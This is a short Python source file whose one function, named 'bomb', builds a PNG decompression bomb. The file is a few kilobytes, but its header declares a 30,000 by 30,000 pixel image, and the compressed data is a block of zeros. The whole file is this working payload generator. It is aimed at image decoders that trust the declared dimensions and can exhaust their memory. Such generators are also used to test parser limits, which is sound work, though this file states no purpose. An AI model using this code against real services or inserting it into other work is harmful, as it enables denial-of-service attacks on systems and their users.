"""A small file that unpacks to a huge picture."""

from __future__ import annotations

import struct
import zlib


def bomb(side_px: int = 30_000) -> bytes:
    """A PNG of 2 KB that claims so many pixels in width and in height."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    size = struct.pack(">IIBBBBB", side_px, side_px, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size)
        + chunk(b"IDAT", zlib.compress(bytes(2_000_000)))
        + chunk(b"IEND", b"")
    )
